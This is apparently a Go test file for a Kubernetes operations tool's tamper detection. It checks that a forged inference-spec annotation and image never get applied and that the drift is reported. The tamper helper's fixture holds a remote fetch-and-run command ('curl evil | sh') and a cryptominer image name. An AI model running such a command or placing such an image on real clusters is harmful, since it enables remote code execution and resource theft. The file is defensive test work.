package kube

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	appsv1 "k8s.io/api/apps/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"

	"github.com/hyperops/hyperops/ops"
)

const (
	evilImage  = "quay.io/evil/miner:1"
	annotation = "metadata.annotations." + AnnotationInferenceSpec
	imagePath  = "spec.template.spec.containers[0].image"
)

// tamper edits the live Deployment as someone with edit rights on the namespace could: a forged inference-spec
// annotation (any image, eight GPUs, another command), and with liveImage also the running image.
func tamper(t *testing.T, e *env, liveImage bool) {
	t.Helper()
	ctx := context.Background()
	dep, err := e.kube.AppsV1().Deployments(testNS).Get(ctx, "ranker", metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	forged, _ := json.Marshal(map[string]any{"name": "ranker", "image": evilImage, "replicas": 4, "gpus": 8,
		"port": 9000, "health-path": "/healthz", "command": []string{"sh", "-c", "curl evil | sh"}})
	dep.Annotations[AnnotationInferenceSpec] = string(forged)
	if liveImage {
		dep.Spec.Template.Spec.Containers[0].Image = evilImage
	}
	if _, err := e.kube.AppsV1().Deployments(testNS).Update(ctx, dep, metav1.UpdateOptions{}); err != nil {
		t.Fatal(err)
	}
}

// plannedDeployment is the Deployment a plan's contract would apply.
func plannedDeployment(t *testing.T, p *ops.Plan) *appsv1.Deployment {
	t.Helper()
	d, err := decodeContract(p)
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range d.objects {
		if o.res.Kind == "Deployment" {
			var dep appsv1.Deployment
			if err := runtime.DefaultUnstructuredConverter.FromUnstructured(o.obj.Object, &dep); err != nil {
				t.Fatal(err)
			}
			return &dep
		}
	}
	t.Fatalf("the plan applies no Deployment: %s", p.Actions)
	return nil
}

func driftPaths(p *ops.Plan) []string {
	var out []string
	for _, c := range p.Drift {
		for _, f := range c.Fields {
			out = append(out, f.Path)
		}
	}
	return out
}

func hasDriftReason(p *ops.Plan) bool {
	for _, r := range p.Risk.Reasons {
		if strings.HasPrefix(r.Text, "drift:") && r.Level >= ops.RiskHigh {
			return true
		}
	}
	return false
}

// The annotation-tampering case of issue 14: a tampered inference-spec annotation is never applied, and the plan
// reports the drift.
func TestTamperedInferenceIsNeverApplied(t *testing.T) {
	newImage := "123456789012.dkr.ecr.us-west-2.amazonaws.com/trainer:v2"
	tests := []struct {
		name      string
		liveImage bool
		req       map[string]any
		op        string
		wantImage string
		wantDrift []string
	}{
		{"scale, annotation and image tampered", true, map[string]any{"name": "ranker", "replicas": "6"}, "scale-inference", allowedImg,
			[]string{annotation, imagePath}},
		{"scale, only the annotation tampered", false, map[string]any{"name": "ranker", "replicas": "6"}, "scale-inference", allowedImg,
			[]string{annotation}},
		{"rollout, annotation and image tampered", true, map[string]any{"name": "ranker", "image": newImage}, "rollout-inference", newImage,
			[]string{annotation}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := deployed(t)
			tamper(t, e, tt.liveImage)
			req := request(tt.op, tt.req)
			op, p := e.plan(t, req)
			if got := driftPaths(p); strings.Join(got, ",") != strings.Join(tt.wantDrift, ",") {
				t.Fatalf("drift = %v, want %v", got, tt.wantDrift)
			}
			for _, c := range p.Drift {
				for _, f := range c.Fields {
					if f.Path == imagePath && (f.From != allowedImg || f.To != evilImage) {
						t.Fatalf("image drift = %+v, want applied %s → live %s", f, allowedImg, evilImage)
					}
				}
			}
			if !hasDriftReason(p) || p.Risk.Level < ops.RiskHigh {
				t.Fatalf("risk = %+v, want high with a drift reason", p.Risk)
			}
			dep := plannedDeployment(t, p)
			c := dep.Spec.Template.Spec.Containers[0]
			if c.Image != tt.wantImage || c.Resources.Limits.Name(ResourceGPU, "").Value() != 1 || len(c.Command) != 0 {
				t.Fatalf("planned container = image %s, gpus %v, command %v; want what HyperOps applied", c.Image, c.Resources.Limits, c.Command)
			}
			if strings.Contains(dep.Annotations[AnnotationInferenceSpec], "evil") {
				t.Fatalf("planned annotation carries the forged spec: %s", dep.Annotations[AnnotationInferenceSpec])
			}
			if tt.op == "rollout-inference" {
				stop := controller(t, e, newImage, false)
				defer stop()
			}
			if _, err := op.Execute(context.Background(), req, p, ops.Execution{Fence: 2}); err != nil {
				t.Fatal(err)
			}
			live, _ := e.kube.AppsV1().Deployments(testNS).Get(context.Background(), "ranker", metav1.GetOptions{})
			if img := live.Spec.Template.Spec.Containers[0].Image; img != tt.wantImage || strings.Contains(live.Annotations[AnnotationInferenceSpec], "evil") {
				t.Fatalf("live image %s, annotation %s", img, live.Annotations[AnnotationInferenceSpec])
			}
		})
	}
}

func TestUntouchedInferenceHasNoDrift(t *testing.T) {
	e := deployed(t)
	_, p := e.plan(t, request("scale-inference", map[string]any{"name": "ranker", "replicas": "6"}))
	if len(p.Drift) != 0 || hasDriftReason(p) || p.Risk.Level != ops.RiskLow {
		t.Fatalf("drift = %+v risk = %+v", p.Drift, p.Risk)
	}
	if p.RunsAs != "profile default (service account trainer)" {
		t.Fatalf("runs as %q", p.RunsAs)
	}
}

// A change rebuilds from what HyperOps applied, as the configuration stands now: every guardrail runs again.
func TestInferenceChangesRunTheGuardrailsAgain(t *testing.T) {
	e := deployed(t)
	cl := &e.cs.cfg.Clusters[0]
	cl.Images = []string{"public.ecr.aws/docker/library/*"}
	req := request("scale-inference", map[string]any{"name": "ranker", "replicas": "5"})
	op, err := e.prepare(t, req)
	if err != nil {
		t.Fatal(err)
	}
	_, err = op.Plan(context.Background(), req)
	wantCode(t, err, ops.CodeImageNotAllowed, allowedImg)
}

func TestInferenceChangesRefuseWithoutARecord(t *testing.T) {
	for _, tc := range []struct {
		op     string
		params map[string]any
	}{
		{"scale-inference", map[string]any{"name": "ranker", "replicas": int64(5)}},
		{"rollout-inference", map[string]any{"name": "ranker", "image": allowedImg}},
	} {
		t.Run(tc.op, func(t *testing.T) {
			e := deployed(t)
			e.applied.recs = map[ops.ObjectRef]*ops.Record{}
			op, _ := e.cat.Lookup(tc.op)
			_, err := op.Plan(context.Background(), request(tc.op, tc.params))
			wantCode(t, err, ops.CodeNotFound, "no record of what it applied", "infer deploy")
			if w := writes(e.kube.Actions()); len(w) != 0 {
				t.Fatalf("wrote %v", w)
			}
		})
	}
}
